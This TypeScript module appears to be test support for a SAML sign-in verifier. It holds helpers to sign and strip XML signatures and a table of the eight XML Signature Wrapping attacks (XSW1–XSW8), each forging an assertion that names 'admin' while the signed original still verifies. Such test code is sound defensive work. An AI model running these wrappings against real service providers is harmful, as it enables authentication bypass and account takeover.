import { DOMParser } from "@xmldom/xmldom";
import { SignedXml } from "xml-crypto";
import {
  ASSERTION,
  childrenNamed,
  elementsNamed,
  PROTOCOL,
  serialized,
  SIGNATURE,
} from "../records/sign-in-connections/saml-xml";

const RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256";
const SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256";
const ENVELOPED = "http://www.w3.org/2000/09/xmldsig#enveloped-signature";
const EXCLUSIVE = "http://www.w3.org/2001/10/xml-exc-c14n#";

export const HMAC = "http://www.w3.org/2000/09/xmldsig#hmac-sha1";

interface Signer {
  privateKey: string;
  certificate: string;
}

/** Removes the signatures of a message. */
export const unsigned = (xml: string): string => edited(xml, (root) => signaturesOf(root).forEach(remove));

/** Signs the elements of a name, with a key and algorithms of choice. */
export function signed(
  xml: string,
  name: string,
  { privateKey, certificate }: Signer,
  { algorithm = RSA_SHA256, digest = SHA256, transforms = [ENVELOPED, EXCLUSIVE] } = {},
): string {
  const signature = new SignedXml({
    privateKey: algorithm === HMAC ? certificate : privateKey,
    publicCert: certificate,
    signatureAlgorithm: algorithm,
    canonicalizationAlgorithm: EXCLUSIVE,
  });
  if (algorithm === HMAC) signature.enableHMAC();
  const xpath = `//*[local-name(.)='${name}']`;
  signature.addReference({ xpath, transforms, digestAlgorithm: digest });
  signature.computeSignature(xml, { location: { reference: `${xpath}/*[local-name(.)='Issuer']`, action: "after" } });
  return signature.getSignedXml();
}

/** Parses a message, changes it, and serializes it. */
export function edited(xml: string, edit: (root: Element, document: Document) => void): string {
  const document = new DOMParser().parseFromString(xml, "text/xml");
  edit(document.documentElement, document);
  return serialized(document);
}

const signaturesOf = (root: Element) => elementsNamed(root, SIGNATURE, "Signature");
const remove = (element: Element) => element.parentNode?.removeChild(element);
const copyOf = (element: Element) => element.cloneNode(true) as Element;
const assertionOf = (root: Element) => elementsNamed(root, ASSERTION, "Assertion")[0] as Element;

/** Makes an element the attacker's: another id, and another person. */
function forge(element: Element): Element {
  element.setAttribute("ID", "_evil");
  for (const nameId of elementsNamed(element, ASSERTION, "NameID")) nameId.textContent = "admin";
  return element;
}

function withoutSignatures(element: Element): Element {
  const copy = copyOf(element);
  signaturesOf(copy).forEach(remove);
  return copy;
}

/**
 * The eight wrappings of signatures (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", as SAML Raider names them): the
 * signed element stays in the message where its signature still verifies, and a forged one is where an application reads it. The first
 * two need a signed response, the others a signed assertion.
 */
export const WRAPPINGS: Readonly<Record<string, (xml: string) => string>> = {
  "XSW1: the signed response in the forged one's signature": (xml) =>
    edited(xml, (root) => {
      const original = withoutSignatures(root);
      forge(root);
      signaturesOf(root)[0]?.appendChild(original);
    }),
  "XSW2: the signed response before the forged one's signature": (xml) =>
    edited(xml, (root) => {
      const original = withoutSignatures(root);
      forge(root);
      root.insertBefore(original, childrenNamed(root, SIGNATURE, "Signature")[0] ?? null);
    }),
  "XSW3: a forged assertion before the signed one": (xml) =>
    edited(xml, (root) => {
      const assertion = assertionOf(root);
      root.insertBefore(forge(withoutSignatures(assertion)), assertion);
    }),
  "XSW4: the signed assertion in a forged one": (xml) =>
    edited(xml, (root) => {
      const assertion = assertionOf(root);
      const forged = forge(withoutSignatures(assertion));
      root.replaceChild(forged, assertion);
      forged.appendChild(assertion);
    }),
  "XSW5: a forged assertion with the signature, the signed one after it": (xml) =>
    edited(xml, (root) => {
      const assertion = assertionOf(root);
      const original = withoutSignatures(assertion);
      forge(assertion);
      root.appendChild(original);
    }),
  "XSW6: the signed assertion in the signature of a forged one": (xml) =>
    edited(xml, (root) => {
      const assertion = assertionOf(root);
      const original = withoutSignatures(assertion);
      forge(assertion);
      signaturesOf(assertion)[0]?.appendChild(original);
    }),
  "XSW7: a forged assertion in extensions": (xml) =>
    edited(xml, (root, document) => {
      const assertion = assertionOf(root);
      const extensions = document.createElementNS(PROTOCOL, "samlp:Extensions");
      extensions.appendChild(forge(withoutSignatures(assertion)));
      root.insertBefore(extensions, assertion);
    }),
  "XSW8: the signed assertion in an object of a forged one's signature": (xml) =>
    edited(xml, (root, document) => {
      const assertion = assertionOf(root);
      const original = withoutSignatures(assertion);
      forge(assertion);
      const object = document.createElementNS(SIGNATURE, "ds:Object");
      object.appendChild(original);
      signaturesOf(assertion)[0]?.appendChild(object);
    }),
};
